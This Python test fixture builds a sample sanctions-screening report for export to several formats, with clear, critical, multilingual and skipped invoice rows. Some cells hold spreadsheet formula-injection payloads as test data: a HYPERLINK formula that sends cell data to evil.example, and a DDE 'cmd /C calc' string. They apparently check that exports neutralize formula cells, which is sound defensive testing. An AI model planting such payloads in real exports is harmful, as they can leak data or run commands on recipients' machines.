"""A small hand-built Report covering what the formats must render: a clear row, a critical row with
party, goods and rule evidence, Cyrillic and Chinese names, a skipped row and formula-like cells."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from screener.bands import Band
from screener.model import (
    Assessment,
    Feature,
    Finding,
    GoodsHit,
    GoodsLine,
    Identifier,
    ListInfo,
    Party,
    PartyHit,
    Payment,
    Reason,
    Record,
    Report,
    Route,
    RuleSetInfo,
    Skipped,
    Summary,
)

GOLDEN_DIR = Path(__file__).resolve().parents[1] / "fixtures" / "report"
UPDATE_GOLDEN = os.environ.get("SCREENER_UPDATE_GOLDEN") == "1"

HEADERS = ("Invoice No", "Seller", "Buyer", "Buyer Country", "Description", "HS Code", "Amount",
           "Remarks")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _raw(*cells: str) -> dict[str, str]:
    return dict(zip(HEADERS, cells, strict=True))


def _clear() -> Assessment:
    record = Record(
        source="invoices.csv",
        row=2,
        reference="INV-001",
        date="2024-03-01",
        parties=(
            Party("seller", "Acme Tools GmbH", country="DE", country_raw="Germany"),
            Party("buyer", "Müller Maschinenbau AG", country="DE", country_raw="DE"),
        ),
        goods=(GoodsLine(description="office chairs", hs_code="940130", hs_raw="9401.30",
                         quantity=12.0, unit="pcs", value=-120.5, currency="EUR"),),
        route=Route(origin="DE", destination="DE"),
        payment=Payment(currency="EUR", amount=-120.5),
        raw=_raw("INV-001", "Acme Tools GmbH", "Müller Maschinenbau AG", "DE", "office chairs",
                 "9401.30", "-120.50", "credit note"),
    )
    return Assessment(record=record, score=0, band=Band.CLEAR)


def _critical() -> Assessment:
    record = Record(
        source="invoices.csv",
        row=3,
        reference="INV-002",
        date="2024-03-02",
        parties=(
            Party("seller", "Acme Tools GmbH", country="DE"),
            Party("buyer", "Titan Micro LLC", alt_names=("OOO Titan-Mikro",), country="HK",
                  country_raw="Hong Kong", address="Room 5, 1 Nathan Road, Kowloon",
                  identifiers=(Identifier("inn", "7701234567"),)),
            Party("end_user", "Titan Mikro", country="RU", country_raw="Russia"),
        ),
        goods=(GoodsLine(description="microcontrollers STM32F4", hs_code="854231",
                         hs_raw="8542.31.00", quantity=5000.0, unit="pcs", value=41250.0,
                         currency="USD"),),
        route=Route(origin="DE", transit=("HK",), destination="HK", final_destination="RU"),
        payment=Payment(currency="USD", amount=41250.0),
        remarks=("@SUM(1+1)*cmd|' /C calc'!A0",),
        raw=_raw("INV-002", "Acme Tools GmbH", "Titan Micro LLC", "Hong Kong",
                 "microcontrollers STM32F4", "8542.31.00", "41250.00",
                 "@SUM(1+1)*cmd|' /C calc'!A0"),
    )
    party_hit = PartyHit(
        role="buyer",
        input_name="Titan Micro LLC",
        list_id="ofac-sdn",
        list_name="OFAC SDN",
        category="sanctions",
        entry_id="12345",
        entry_name="OOO TITAN MIKRO",
        matched_alias="TITAN MICRO LLC",
        score=97.4,
        features=(
            Feature("name_similarity", 0.974, 97.4, "token set ratio of distinctive words"),
            Feature("legal_form", 1.0, 0.0, "LLC = LLC"),
            Feature("country_mismatch", 1.0, -2.0, "input HK, entry RU"),
        ),
        programs=("RUSSIA-EO14024",),
        entry_countries=("RU",),
        sources=("https://sanctionssearch.ofac.treas.gov/Details.aspx?id=12345",),
        notes="Designated 2023-05-19",
        points=97,
    )
    goods_hit = GoodsHit(
        line=0,
        list_id="chpl",
        list_name="CHPL",
        item_id="tier1-ic-processors",
        label="CHPL Tier 1: electronic integrated circuits: processors and controllers",
        tier="1",
        matched_on="hs",
        matched="854231",
        hs_code="854231",
        description="microcontrollers STM32F4",
        sources=("chpl-2024-02-23.yaml",),
    )
    finding = Finding(
        rule_id="russia-belarus-final-destination",
        message="final destination is Russia or Belarus",
        weight=40,
        sources=("FIN-2022-Alert003",),
        evidence=("route.final_destination = RU",),
        rule_file="rules/russia.yaml",
    )
    transship = Finding(
        rule_id="chpl-via-transshipment-hub",
        message="CHPL goods shipped through a known transshipment hub",
        weight=30,
        sources=("FIN-2023-Alert004", "BIS-KYC"),
        evidence=("goods line 1 CHPL Tier 1", "route.destination = HK"),
        rule_file="rules/russia.yaml",
    )
    reasons = (
        Reason("party", 97, "buyer 'Titan Micro LLC' matches 'TITAN MICRO LLC' (alias of "
               "'OOO TITAN MIKRO') on OFAC SDN [RUSSIA-EO14024] (sanctions), match 97/100",
               "ofac-sdn:12345"),
        Reason("rule", 40, "russia-belarus-final-destination: final destination is Russia or "
               "Belarus", "russia-belarus-final-destination"),
        Reason("rule", 30, "chpl-via-transshipment-hub: CHPL goods shipped through a known "
               "transshipment hub", "chpl-via-transshipment-hub"),
        Reason("goods", 0, "goods line 1: CHPL Tier 1: electronic integrated circuits: processors "
               "and controllers (HS 854231, CHPL)", "chpl:tier1-ic-processors"),
    )
    return Assessment(
        record=record,
        score=100,
        band=Band.CRITICAL,
        party_hits=(party_hit,),
        goods_hits=(goods_hit,),
        findings=(finding, transship),
        reasons=reasons,
    )


def _scripts() -> Assessment:
    record = Record(
        source="invoices.csv",
        row=4,
        reference="СЧ-2024/17",
        parties=(
            Party("seller", "武汉高芯科技有限公司", country="CN", country_raw="中国"),
            Party("buyer", "ООО «Титан-Микро»", country="KG", country_raw="Кыргызстан"),
        ),
        goods=(GoodsLine(description="подшипники шариковые", hs_code="848210",
                         hs_raw="8482.10"),),
        route=Route(origin="CN", destination="KG"),
        raw=_raw("СЧ-2024/17", "武汉高芯科技有限公司", "ООО «Титан-Микро»", "Кыргызстан",
                 "подшипники шариковые", "8482.10", "+3 100,00", FORMULA),
    )
    finding = Finding(
        rule_id="kyrgyzstan-cn-origin-dual-use",
        message="dual-use goods of Chinese origin to Kyrgyzstan",
        weight=40,
        sources=("FIN-2023-NTC2",),
        evidence=("route.destination = KG",),
    )
    return Assessment(
        record=record,
        score=40,
        band=Band.MEDIUM,
        findings=(finding,),
        reasons=(Reason("rule", 40, "kyrgyzstan-cn-origin-dual-use: dual-use goods of Chinese "
                        "origin to Kyrgyzstan", "kyrgyzstan-cn-origin-dual-use"),),
    )


def make_report() -> Report:
    """The sample report; fixed time and version so golden files are stable."""
    assessments = (_clear(), _critical(), _scripts())
    skipped = (
        Skipped(
            source="invoices.csv",
            row=5,
            reason="HS code '85A2' is not 4 to 10 digits",
            field="HS Code",
            raw=_raw("INV-004", "-Evil Corp", "Someone", "RU", "chips", "85A2", "10", ""),
        ),
    )
    by_band = {b.value: 0 for b in Band}
    for a in assessments:
        by_band[a.band.value] += 1
    return Report(
        schema_version="1.0",
        tool_version="0.1.0",
        generated_at="2024-05-01T12:00:00+00:00",
        inputs=("invoices.csv",),
        assessments=assessments,
        skipped=skipped,
        summary=Summary(rows_in=4, screened=3, skipped=1, by_band=by_band),
        lists=(
            ListInfo("ofac-sdn", "OFAC SDN", "entities", "2024-04-30", "2024-04-30",
                     "0123456789abcdef" * 4, 17893, "watchlists/ofac-sdn.yaml"),
            ListInfo("chpl", "CHPL", "goods", "2024-02-23", "2024-02-23", "fedcba9876543210" * 4,
                     50, "goods/chpl.yaml"),
        ),
        rules=(RuleSetInfo("rules/russia.yaml", 12, "00ff" * 16, "2024.1"),),
        settings={"match_threshold": 80.0, "column_map": {}, "rules_paths": (Path("rules"),)},
    )


@pytest.fixture
def report() -> Report:
    return make_report()


def _check_golden(name: str, actual: str) -> None:
    """Compare `actual` with the golden file `name`; SCREENER_UPDATE_GOLDEN=1 rewrites it."""
    path = GOLDEN_DIR / name
    if UPDATE_GOLDEN:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(actual, encoding="utf-8", newline="")
        return
    if not path.exists():
        pytest.fail(f"golden file {path} is missing; run with SCREENER_UPDATE_GOLDEN=1 to write it")
    expected = path.read_bytes().decode("utf-8")  # bytes: line endings compared as written
    assert actual == expected, f"{name} differs from its golden file (SCREENER_UPDATE_GOLDEN=1)"


@pytest.fixture
def golden() -> Callable[[str, str], None]:
    """`golden(name, text)`: compare `text` with tests/fixtures/report/<name>."""
    return _check_golden
